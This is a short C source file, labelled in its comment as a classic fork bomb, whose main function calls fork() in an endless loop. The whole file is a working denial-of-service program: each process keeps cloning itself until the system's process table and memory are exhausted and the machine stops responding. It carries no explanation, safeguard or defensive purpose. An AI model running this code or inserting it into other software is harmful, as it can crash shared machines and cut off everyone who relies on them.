/* Classic fork bomb: every process forks forever. */
#define _GNU_SOURCE   /* POSIX calls under -std=c11 */
#include <unistd.h>
int main(void)
{
	for (;;)
		fork();
}
